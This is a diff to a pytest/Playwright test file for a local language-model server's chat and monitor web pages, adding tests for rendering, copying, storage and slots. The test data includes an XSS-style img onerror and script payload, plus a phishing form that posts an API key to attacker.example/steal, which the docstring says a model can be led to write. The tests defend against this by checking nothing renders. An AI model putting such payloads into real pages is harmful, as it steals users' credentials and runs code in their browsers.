@@ -10,6 +10,7 @@ else to a temporary folder.
 from __future__ import annotations
 
 import base64
+import contextlib
 import importlib.resources
 import json
 import os
@@ -116,13 +117,23 @@ def demo() -> Iterator[Served]:
 
 
 @pytest.fixture(scope="module")
-def long_answers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+def random_model(tmp_path_factory: pytest.TempPathFactory) -> pathlib.Path:
     # 128 wide, like the demo model, so the demo model's encoder feeds it.
-    model = write_random_model(tmp_path_factory.mktemp("web") / "random.gguf", arch="qwen3moe", size="tiny",
-                               dtype="f16", vocab="qwen", seed=0, n_embd=128)
+    return write_random_model(tmp_path_factory.mktemp("web") / "random.gguf", arch="qwen3moe", size="tiny",
+                              dtype="f16", vocab="qwen", seed=0, n_embd=128)
+
+
+@pytest.fixture(scope="module")
+def long_answers(random_model: pathlib.Path) -> Iterator[Served]:
     # One slot: a second request waits, and the monitor shows it queued.
-    with strata_serve("--model", str(model), "--vision.mmproj", str(SHIPPED / "demo-mmproj.gguf"),
+    with strata_serve("--model", str(random_model), "--vision.mmproj", str(SHIPPED / "demo-mmproj.gguf"),
                       "--vision.threads", "1", "--slots", "1") as served:
+        yield served
+
+
+@pytest.fixture(scope="module")
+def three_slots(random_model: pathlib.Path) -> Iterator[Served]:
+    with strata_serve("--model", str(random_model), "--slots", "3") as served:
         yield served
 
 
@@ -208,6 +219,30 @@ def watch_text(answer_locator: Any) -> None:
     }""")
 
 
+def answer_with(page: Any, text: str) -> None:
+    """The page's next answers are `text`, streamed as the server streams a chat completion (the text in small
+    deltas, then the finish and the usage), whatever the question: for answers no model can be made to write."""
+    def chunk(delta: dict[str, Any], finish: str | None = None, **extra: Any) -> str:
+        body = {"id": "chatcmpl-scripted", "object": "chat.completion.chunk", "created": 0, "model": "demo",
+                "choices": [{"index": 0, "delta": delta, "finish_reason": finish}] if delta is not None else [],
+                **extra}
+        return f"data: {json.dumps(body)}\n\n"
+
+    usage = {"prompt_tokens": 9, "completion_tokens": 3, "total_tokens": 12}
+    body = (chunk({"role": "assistant", "content": ""})
+            + "".join(chunk({"content": text[i:i + 3]}) for i in range(0, len(text), 3))
+            + chunk({}, "stop") + chunk(None, usage=usage) + "data: [DONE]\n\n")
+    page.route("**/v1/chat/completions", lambda route: route.fulfill(
+        status=200, headers={"content-type": "text/event-stream", "cache-control": "no-cache"}, body=body))
+
+
+def copied(page: Any, answer: Any) -> str:
+    """What the answer's Copy button puts on the clipboard."""
+    answer.get_by_test_id("copy").click()
+    answer.get_by_test_id("copy").filter(has_text="Copied").wait_for()
+    return str(page.evaluate("navigator.clipboard.readText()"))
+
+
 def status(served: Served) -> dict[str, Any]:
     return httpx.get(served.url + "/status", timeout=10).json()
 
@@ -235,7 +270,7 @@ def test_a_question_streams_an_answer_with_its_thinking_folded(demo: Served, pag
     assert "Paris" in page.locator(".message.assistant").last.inner_text()
 
 
-def test_answers_render_markdown_and_code_and_nothing_runs(demo: Served, page: Any, page_errors: list[str]) -> None:
+def test_answers_render_markdown_and_code_and_nothing_runs(demo: Served, page: Any) -> None:
     # A stored conversation (as an earlier answer would be kept), written straight into IndexedDB.
     page.goto(demo.url + "/")
     page.get_by_test_id("prompt").wait_for()
@@ -263,12 +298,83 @@ def test_answers_render_markdown_and_code_and_nothing_runs(demo: Served, page: A
     assert "return a + b" in answer.locator("pre code").inner_text()
     assert answer.locator("script").count() == 0 and answer.locator("img[onerror]").count() == 0
     assert page.evaluate("window.ran") is None
-    # Expected: Chromium reports the handler against the content policy when DOMPurify parses the text (inertly,
-    # before removing it), and the sanitised <img src="x"> finds nothing.
-    expected = [e for e in page_errors if "inline event handler" in e or "status of 404" in e]
-    assert expected
-    for error in expected:
-        page_errors.remove(error)
+    # HTML in an answer shows as the characters the model wrote, never as elements: nothing loads, nothing runs,
+    # and the content policy has nothing to report (the page fixture checks that no error was logged).
+    assert '<img src=x onerror="window.ran = true"><script>window.ran = true</script>' in answer.inner_text()
+
+
+# Answers that Markdown would turn into nothing (an empty list item, heading or quote, a link definition, an empty
+# code block, HTML elements), and some that it must keep as written.
+EXACT_ANSWERS = ["4.", "1)", "-", "*", "+", "#", ">", "```", "[1]: https://example.com/source", "2 + 2 =\n\n4.",
+                 "Use <br> for a line break; <think> is the model's own tag."]
+
+
+def test_the_page_shows_and_copies_exactly_what_the_model_wrote(demo: Served, page: Any) -> None:
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=demo.url)
+    page.goto(demo.url + "/")
+    page.get_by_test_id("prompt").wait_for()
+    for text in EXACT_ANSWERS:
+        answer_with(page, text)
+        answer = ask(page, "Answer in a few characters.")
+        finished(answer)
+        shown = answer.locator(".markdown").inner_text()
+        assert shown.split() == text.split(), (text, shown)
+        assert copied(page, answer) == text
+        page.unroute("**/v1/chat/completions")
+    # Markdown is still rendered, and copied as the model wrote it (a task list's boxes as the characters).
+    tasks = "Steps:\n\n- [ ] to do\n- [x] **done**"
+    answer_with(page, tasks)
+    answer = ask(page, "What is left?")
+    finished(answer)
+    assert answer.locator(".markdown li").all_inner_texts() == ["[ ] to do", "[x] done"]
+    assert answer.locator(".markdown li strong").inner_text() == "done"
+    assert copied(page, answer) == tasks
+    # Where the clipboard API refuses (or is missing: plain http to another machine), Copy still copies.
+    page.evaluate("""() => { navigator.clipboard.writeText = () =>
+        Promise.reject(new DOMException("Write permission denied.", "NotAllowedError")); }""")
+    answer = page.locator(".message.assistant").nth(EXACT_ANSWERS.index("2 + 2 =\n\n4."))
+    assert copied(page, answer) == "2 + 2 =\n\n4."
+
+
+def test_a_form_in_an_answer_is_not_rendered(demo: Served, page: Any) -> None:
+    """A model can be led to write a form that asks for the API key and posts it elsewhere: it shows as text."""
+    phishing = ('Your session expired. <form action="https://attacker.example/steal" method="post">'
+                '<input name="key" placeholder="API key"><textarea name="more"></textarea><select name="s"></select>'
+                '<button type="submit">Sign in</button></form>')
+    page.goto(demo.url + "/")
+    answer_with(page, phishing)
+    answer = ask(page, "Hello")
+    finished(answer)
+    markdown = answer.locator(".markdown")
+    assert markdown.locator("form, input, textarea, select, button").count() == 0
+    assert page.locator("form[action]").count() == 0
+    assert "Your session expired." in markdown.inner_text()
+
+
+@pytest.mark.parametrize("storage", ["missing", "refused"])
+def test_the_pages_work_without_indexeddb(demo: Served, page: Any, storage: str) -> None:
+    """Some private windows, and browsers with storage turned off, have no IndexedDB: the chat works without
+    history and says so once; the monitor does not need it."""
+    page.add_init_script({
+        "missing": "delete window.indexedDB;",
+        "refused": """IDBFactory.prototype.open = function () {
+            throw new DOMException("The operation is insecure.", "SecurityError");
+        };""",
+    }[storage])
+    page.goto(demo.url + "/")
+    notice = page.get_by_test_id("no-history")
+    notice.wait_for()
+    assert "IndexedDB" in notice.inner_text()
+    settings(page, temperature="0", reasoning="none")
+    finished(ask(page, "What is the capital of France?"))
+    answer = ask(page, "What is the capital of Italy?")
+    finished(answer)
+    assert "Rome" in answer.inner_text()
+    assert page.get_by_test_id("no-history").count() == 1  # said once, not per answer
+    assert page.locator(".conversations li").count() == 1  # kept for as long as the page is open
+    page.goto(demo.url + "/monitor")
+    page.get_by_test_id("engine").wait_for()
+    page.locator("[data-testid=slots] tr[data-slot]").first.wait_for()
 
 
 def test_a_pasted_picture_is_described(demo: Served, page: Any, screenshots: pathlib.Path) -> None:
@@ -415,6 +521,35 @@ def test_the_monitor_shows_phases_and_a_cancelled_request(long_answers: Served, 
     assert trail.index("queued") < trail.index("decode"), trail
     assert page.locator("[data-testid=plot-rate] polyline").get_attribute("points")
     assert "ready" in page.get_by_test_id("encoder").inner_text()
+
+
+def test_the_monitor_shows_every_slot(three_slots: Served, page: Any) -> None:
+    page.goto(three_slots.url + "/monitor")
+    page.get_by_test_id("engine").wait_for()
+    slots = page.locator("[data-testid=slots] tr[data-slot]")
+    slots.nth(2).wait_for()
+    assert slots.count() == 3
+    page.get_by_test_id("slots-busy").filter(has_text="0 of 3 busy").wait_for()
+    chat = three_slots.url + "/v1/chat/completions"
+    ids = []
+    with httpx.Client(timeout=60) as client, contextlib.ExitStack() as replies:
+        # Greedy: this model's answer to it runs all 3,000 tokens (both stay in flight until they hang up).
+        story = {"messages": [{"role": "user", "content": "Tell me a long story."}], "max_tokens": 3000,
+                 "stream": True, "temperature": 0}
+        for _ in range(2):
+            reply = replies.enter_context(client.stream("POST", chat, json=story))
+            chunks = replies.enter_context(contextlib.closing(reply.iter_bytes()))  # a dropped one would close it
+            first_chunk = json.loads(next(chunks).decode().split("data: ", 1)[1].split("\n", 1)[0])
+            ids.append(first_chunk["id"].removeprefix("chatcmpl-"))
+        page.get_by_test_id("slots-busy").filter(has_text="2 of 3 busy").wait_for()
+        decoding = page.locator("[data-testid=slots] tr[data-state=decode]")
+        assert decoding.count() == 2
+        assert sorted(row.locator("td.mono").inner_text() for row in decoding.all()) == sorted(i[:8] for i in ids)
+        assert page.locator("[data-testid=slots] tr[data-state=idle]").count() == 1
+        for request_id in ids:
+            page.locator(f"[data-testid=requests] tr[data-request='{request_id}'][data-phase=decode]").wait_for()
+    page.get_by_test_id("slots-busy").filter(has_text="0 of 3 busy").wait_for()
+    page.goto("about:blank")  # closes the status stream before the server stops
 
 
 # --- the API key
